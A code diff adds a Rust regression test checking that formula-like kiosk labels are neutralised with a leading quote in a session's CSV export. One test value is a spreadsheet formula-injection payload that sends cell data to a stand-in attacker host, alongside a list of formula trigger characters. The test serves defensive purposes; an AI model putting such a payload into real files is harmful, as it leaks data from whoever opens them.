@@ -374,3 +374,57 @@ fn a_generated_hour_with_overlapping_commands_reads_back_the_same_too() {
         .unwrap();
     assert_eq!(poses.len(), 18_000, "5 a second");
 }
+
+/// Regression (issue 24): a kiosk's refused label such as `=HYPERLINK(...)` went raw into the
+/// CSV, where a spreadsheet opening the export ran it as a formula.
+#[tokio::test]
+async fn a_kiosk_label_that_is_a_formula_is_neutralised_in_the_csv() {
+    let b = bundle();
+    let corpus = tempfile::tempdir().unwrap();
+    let server = TestServer::start_with(b.path(), |o| o.corpus_dir = corpus.path().into()).await;
+    let mut op = server.operator().await;
+    let mut kiosk = server
+        .client(json!({"type": "hello", "role": "kiosk"}))
+        .await;
+    op.send(json!({"type": "mark", "mark": "session_start"}))
+        .await;
+    op.recv_type("marked").await;
+    let formula = r#"=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")"#;
+    for label in [formula, "@SUM(1+1)", "-2+3"] {
+        kiosk.send(json!({"type": "trigger", "label": label})).await;
+        kiosk.recv_type("error").await;
+        op.event("trigger.refused").await;
+    }
+    op.send(json!({"type": "mark", "mark": "session_end"}))
+        .await;
+    op.recv_type("marked").await;
+    server.stop().await;
+    let session = std::fs::read_dir(corpus.path().join(SESSIONS_DIR))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let name = session.file_name().unwrap().to_str().unwrap().to_owned();
+    let out = tempfile::tempdir().unwrap();
+    export_session(&session, ExportFormat::Csv, out.path()).unwrap();
+    let mut reader = csv::Reader::from_path(out.path().join(format!("{name}.csv"))).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let acts: Vec<&str> = (rows.iter())
+        .filter(|r| &r[7] == "touch")
+        .map(|r| &r[3])
+        .collect();
+    assert_eq!(
+        acts,
+        [format!("'{formula}"), "'@SUM(1+1)".into(), "'-2+3".into()],
+        "each refused label with a quote before it"
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+}
